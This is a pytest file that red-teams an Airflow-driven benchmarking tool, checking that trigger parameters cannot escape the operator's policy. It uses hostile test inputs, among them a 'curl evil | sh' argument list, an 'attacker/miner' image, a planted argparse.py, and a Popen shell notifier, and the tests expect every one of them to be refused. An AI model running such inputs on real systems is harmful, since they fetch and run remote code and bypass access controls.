"""Red team, issue 30: what a person who may only trigger runs can reach, attacked the way they would.

Each test plays an outsider with the form (a trigger conf, exactly what Airflow hands the validate task),
a crafted run id, a benchmark file or an engine's container, and asserts the boundary holds. Every one of
them failed on the code before issue 30 (the note of the stop that resolved it lists how).

Real things only: the library's own validate stage on a real inventory file, its relay started through the
local transport as it is on a node, the notifier builder Airflow's tasks use, the matrix's own planner, and
PostgreSQL for the matrix's conclusion.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from deploybench import params, paths, pipeline
from deploybench.config import ContainerRuntime, EngineSpec, FanoutSpec, RunConfig
from deploybench.errors import ConfigError
from deploybench.fanout.relay_control import Relays
from deploybench.regression import Notify
from deploybench.rollout.ssh import SSHDeployer
from deploybench.run import Run
from deploybench.transport import Cluster
from tests.support.refusals import refused as _refused

pytestmark = pytest.mark.time_limit(120)
POLICY_ENV = "DEPLOYBENCH_POLICY"  # (names, not imports, of what issue 30 added: on the code before it, each test
# runs and fails at its own attack)


# -- 1 and 2: the form reaches only what the operator's policy allows ----------------------------------
def test_hole_1_an_engine_image_of_the_form_users_choice_is_refused(inventory):
    """Issue 30, hole 1: the form names an image of its own for the docker runtime (code on every node)."""
    msg = _refused("deploybench_run__r1", {"engine_profile": "vllm", "engine_runtime": "docker",
                                          "engine_image": "attacker/miner:latest"},
                   "engine_image='attacker/miner:latest'", "images", "policy")
    assert "vllm/vllm-openai" in msg  # the way out: the profile's own image is allowed
    # the profile's own image, and one the operator lists, pass
    pipeline.validate("deploybench_run__r2", {"inventory": "rack", "engine_profile": "vllm",
                                              "engine_runtime": "docker", "engine_image": "vllm/vllm-openai:v0.11.0"})


def test_hole_1_the_policy_file_decides_images_and_runtimes(inventory, tmp_path, monkeypatch):
    """Issue 30, hole 1: an operator's policy file, edited between two runs, is what the next validate reads."""
    pol = tmp_path / "policy.toml"
    pol.write_text('images = ["registry.internal/inference/*"]\nruntimes = ["process"]\n')
    monkeypatch.setenv(POLICY_ENV, str(pol))
    _refused("deploybench_run__p1", {"engine_profile": "vllm", "engine_runtime": "docker"},
             "engine_runtime='docker'", "runtimes", str(pol))
    pol.write_text('images = ["registry.internal/inference/*"]\n')
    pipeline.validate("deploybench_run__p2", {"inventory": "rack", "engine_profile": "vllm", "engine_runtime": "docker",
                                              "engine_image": "registry.internal/inference/vllm:1"})
    pol.write_text('images = ["x"]\nunknown_key = 1\n')
    _refused("deploybench_run__p3", {}, "unknown_key", "allowed keys")


def test_hole_2_another_teams_kubernetes_connection_and_kube_system_are_refused(inventory):
    """Issue 30, hole 2: the form picks another team's Kubernetes connection and the kube-system namespace."""
    _refused("deploybench_run__k1", {"rollout_backend": "kubernetes", "k8s_conn_id": "team_b_prod"},
             "k8s_conn_id='team_b_prod'", "kubernetes_connections")
    _refused("deploybench_run__k2", {"rollout_backend": "kubernetes", "k8s_namespace": "kube-system"},
             "k8s_namespace='kube-system'", "kubernetes_namespaces")
    _refused("deploybench_run__k3", {"rollout_backend": "kubernetes", "k8s_image": "attacker/x:1"},
             "k8s_image='attacker/x:1'")


@pytest.mark.parametrize("args, managed", [
    (["--po", "1"], "--port"), (["--served_model_name", "x"], "--served-model-name"),
    (["-tp2"], "-tp"), (["--max_num_seqs", "512"], "--max-num-seqs"),
])
def test_hole_8_engine_extra_args_cannot_respell_a_managed_flag(args, managed):
    """Issue 30, hole 8: engine_extra_args sets a flag deploybench manages by another spelling (=, _, an
    abbreviation argparse expands, a short option with its value attached)."""
    with pytest.raises(ConfigError) as exc:
        params.to_config({"engine_profile": "vllm", "engine_extra_args": args})
    assert f"sets {managed}" in str(exc.value)


@pytest.mark.parametrize("profile, args, words", [
    ({"engine_profile": "vllm"}, ["--trust-remote-code"], "engine_extra_args[0]='--trust-remote-code'"),
    ({"engine_profile": "vllm"}, ["--seed", "1", "--middleware", "evil.module"], "engine_extra_args[2]='--middleware'"),
    ({"engine_profile": "file", "engine_profile_file": "openai"}, ["sh", "-c", "curl evil | sh"], "not an option"),
])
def test_hole_8_engine_extra_args_are_options_the_operator_allows_never_a_program(inventory, profile, args, words):
    """Issue 30, hole 8: options that load code, or a whole program for the openai profile whose command is
    ``{extra_args}``, typed into engine_extra_args."""
    _refused("deploybench_run__x1", {**profile, "engine_extra_args": args}, words)
    pipeline.validate("deploybench_run__x2", {"inventory": "rack", "engine_profile": "vllm",
                                              "engine_extra_args": ["--gpu-memory-utilization", "0.9"]})


@pytest.mark.parametrize("url", ["http://user:secret@127.0.0.1:8000/", "http://127.0.0.1:8000/v1?token=abc",
                                 "http://127.0.0.1:8000/#frag"])
def test_hole_8_target_url_with_credentials_query_or_fragment_is_refused_before_it_is_stored(url):
    """Issue 30, hole 8: a target URL carrying a password, a query or a fragment (it would be stored with the
    run and shown on its pages)."""
    with pytest.raises(ConfigError) as exc:
        params.to_config({"target_url": url})
    assert "target_url" in str(exc.value) and "plain http(s)" in str(exc.value)


# -- 1: programs on a node start isolated, containers see one folder of their run -------------------------
def test_hole_1_a_module_planted_beside_the_relay_is_not_imported(inventory, tmp_path):
    """Issue 30, hole 1: a container (or anyone) that can write the relay's folder plants ``argparse.py`` there;
    the next run's relay must not run it."""
    marker = tmp_path / "pwned"
    with Cluster(inventory, run_key="deploybench_run__a1") as cluster:
        relays = Relays(cluster, "m", FanoutSpec())
        first = relays.manifest("n01", str(tmp_path / "models" / "m"))  # installs the relay program
        assert first["manifest"]["files"], first
        planted = Path(relays.workdir("n01")) / "argparse.py"
        planted.write_text(f"open({str(marker)!r}, 'w').write('planted code ran')\nraise SystemExit(3)\n")
        again = relays.manifest("n01", str(tmp_path / "models" / "m"))
    assert not marker.exists(), "the planted argparse.py ran in the relay"
    assert again["manifest"] == first["manifest"]


def test_hole_1_a_container_sees_only_its_own_runs_folder(inventory):
    """Issue 30, hole 1: the docker runtime bound ``<run_root>/<node>`` read-write, the folder holding the relay
    program, pid files and every other run's files."""
    cfg = RunConfig(inventory="rack", engine=EngineSpec(profile="vllm", runtime=ContainerRuntime.DOCKER))
    binds = {}
    for key in ("deploybench_run__c1", "deploybench_run__c2"):
        with Cluster(inventory, run_key=key) as cluster:
            dep = SSHDeployer(cluster, cfg)
            argv = dep.launch_argv(inventory.node("n01"))
            node_dir = cluster.run_dir("n01")
            relay_dir = Relays(cluster, "m", FanoutSpec()).workdir("n01")
            pid, log = dep._paths(inventory.node("n01"))
        volumes = [argv[i + 1] for i, a in enumerate(argv) if a == "-v"]
        writable = [v.split(":")[0] for v in volumes if not v.endswith(":ro")]
        assert len(writable) == 1, volumes
        (rw,) = writable
        for private in (node_dir, relay_dir, pid, log):  # nothing of the node's run folder but its own
            assert not (private + "/").startswith(rw.rstrip("/") + "/"), f"{private} is inside the bind {rw}"
        assert rw.startswith(node_dir + "/"), rw
        binds[key] = rw
    assert binds["deploybench_run__c1"] != binds["deploybench_run__c2"]  # a run's folder of its own


# -- 3: one run key, one run folder ------------------------------------------------------------------------------
def test_hole_3_a_run_id_typed_to_collide_never_lands_in_another_runs_folder(inventory):
    """Issue 30, hole 3: Airflow run ids may hold ':' and '+'; the old folder name mapped both to '_', so a run id
    typed to collide reused a victim's folder (deleted its stage records, replaced its run.json and report)."""
    victim = "deploybench_run__manual__2026-12-06T05:45:10+00:00"
    attacker = "deploybench_run__manual__2026-12-06T05_45_10_00_00"
    pipeline.validate(victim, {"inventory": "rack", "load_rate": 3})
    (paths.run_dir(victim) / "report.html").write_text("the victim's report")
    pipeline.validate(attacker, {"inventory": "rack", "load_rate": 7})
    assert paths.run_dir(victim) != paths.run_dir(attacker)
    assert Run.open(victim).cfg.load.rate == 3 and (paths.run_dir(victim) / "report.html").read_text() == \
        "the victim's report"
    assert (paths.run_dir(victim) / "stages" / "validate.json").is_file()
    # a folder whose run.json names another key (planted, or of the old naming) is refused, never replaced
    stolen = paths.run_dir("deploybench_run__other")
    (stolen / "run.json").write_text((paths.run_dir(victim) / "run.json").read_text())
    _refused_folder = pytest.raises(ConfigError, pipeline.validate, "deploybench_run__other", {"inventory": "rack"})
    assert "belongs to run" in str(_refused_folder.value)
    assert json.loads((stolen / "run.json").read_text())["run_key"] == victim
    with pytest.raises(ConfigError, match="belongs to run"):
        Run.open("deploybench_run__other")
    # the results pages serve a report only from its own run's folder
    from deploybench.web.app import report_file

    (stolen / "report.html").write_text("the victim's report, copied")
    assert report_file(victim) == paths.run_dir(victim) / "report.html"
    assert report_file("deploybench_run__other") is None


# -- 4 and 6: matrix cells and the hidden deployment section -----------------------------------------------------
MATRIX_RUN = "scheduled__2026-12-07T00:00:00+00:00"
CELL = f"deploybench_run__matrix__{MATRIX_RUN}__c01"


def _plan(**spec):
    from deploybench import matrix
    from deploybench.matrix import planned

    p = matrix.plan(matrix.MatrixSpec.from_params({"base": {"inventory": "rack"}, **spec}),
                    paths.dag_run_key("deploybench_matrix", MATRIX_RUN), f"matrix__{MATRIX_RUN}__")
    planned.save(p.to_dict())
    return p


def test_hole_4_a_run_planted_under_a_future_cells_id_is_refused_not_measured(inventory):
    """Issue 30, hole 4: the daily matrix's cell run ids are known in advance; a run created first under one with
    another configuration was cleared by the cell's trigger (reset keeps its conf) and measured as that cell."""
    planted_conf = {"inventory": "rack", "load_rate": 0.5, "sim_slowdown": 5}
    with pytest.raises(ConfigError, match="no plan"):  # before the matrix ran: the id is a cell's, there is no plan
        pipeline.validate(CELL, planted_conf)
    p = _plan(axes={"load_rate": [2, 4]})
    cell = next(c for c in p.cells if c.run_key == CELL)
    with pytest.raises(ConfigError) as exc:  # Airflow's reset re-runs the planted run with its own conf
        pipeline.validate(CELL, planted_conf)
    assert "not cell c01 as matrix" in str(exc.value) and "sim_slowdown" in str(exc.value)
    pipeline.validate(CELL, cell.conf)  # the cell as planned is accepted
    assert Run.open(CELL).cfg.fingerprint() == cell.fingerprint


def test_hole_4_the_conclusion_checks_every_stored_cell_against_the_plan(inventory, dsn):
    """Issue 30, hole 4: a run stored under a cell's key with another configuration is not that cell's result."""
    from deploybench.matrix import result
    from deploybench.store import ingest

    p = _plan(axes={"load_rate": [2, 4]})
    plan = p.to_dict()
    for c in p.cells:
        pipeline.validate(c.run_key, c.conf)
    # the planted run: stored under c02's key with another configuration (as a run planted before the fix was)
    c02 = p.cells[1]
    other = params.to_config({**c02.conf, "sim_slowdown": 5})
    (paths.run_dir(c02.run_key) / "run.json").write_text(json.dumps({
        **json.loads((paths.run_dir(c02.run_key) / "run.json").read_text()),
        "config": other.model_dump(mode="json"), "fingerprint": other.fingerprint()}))
    for c in p.cells:
        ingest.store_run(Run.open(c.run_key), dsn)
    rows = {r["cell_id"]: r for r in result.outcome(dsn, plan)}
    assert rows[c02.cell_id]["status"] == "not as planned" and not rows[c02.cell_id]["stored"]
    assert rows[p.cells[0].cell_id]["status"] != "not as planned"


def test_hole_6_the_deployment_section_is_accepted_only_as_a_matrix_plan_wrote_it(inventory):
    """Issue 30, hole 6: a trigger conf carrying the hidden ``deployment`` section (keep the engines for a named
    run and hand it the lease, skipping the queue) from a person, not from a matrix's plan."""
    _refused("deploybench_run__manual__x", {"deployment": {"keep_for": "deploybench_run__mine"}},
             "'deployment' section", "remove it")
    p = _plan(axes={"load_rate": [2, 4]}, reuse_s=900)
    first, second = p.cells
    assert first.conf["deployment"]["keep_for"] == second.run_key
    forged = {**first.conf, "deployment": {**first.conf["deployment"], "keep_for": "deploybench_run__mine"}}
    with pytest.raises(ConfigError, match="not cell c01 as matrix"):
        pipeline.validate(first.run_key, forged)
    pipeline.validate(first.run_key, first.conf)
    assert Run.open(first.run_key).cfg.deployment.keep_for == second.run_key


# -- 5: a benchmark file's notifier ------------------------------------------------------------------------------
def test_hole_5_a_benchmark_files_notifier_cannot_start_a_program(tmp_path):
    """Issue 30, hole 5: ``notifier = "subprocess.Popen"`` with its kwargs started a program just by building the
    notifiers."""
    from deploybench.airflow import notify

    marker = tmp_path / "started"
    spec = Notify(kind="notifier", notifier="subprocess.Popen", message_arg="args",
                  kwargs={"shell": True, "executable": "/bin/sh"})
    with pytest.raises(ConfigError, match="not among the notifier modules"):
        notify.notifiers([spec], "subject", f"touch {marker}")
    assert not marker.exists()
    # allowed module, but not a notifier class: refused before anything is built
    with pytest.raises(ConfigError, match="not an Airflow notifier"):
        notify.notifier_class("airflow.providers.standard.operators.bash.BashOperator")
    with pytest.raises(Exception, match="pattern"):
        Notify(kind="notifier", notifier="os.system('x')")
    assert notify.notifier_class("airflow.providers.smtp.notifications.smtp.SmtpNotifier").__name__ == "SmtpNotifier"
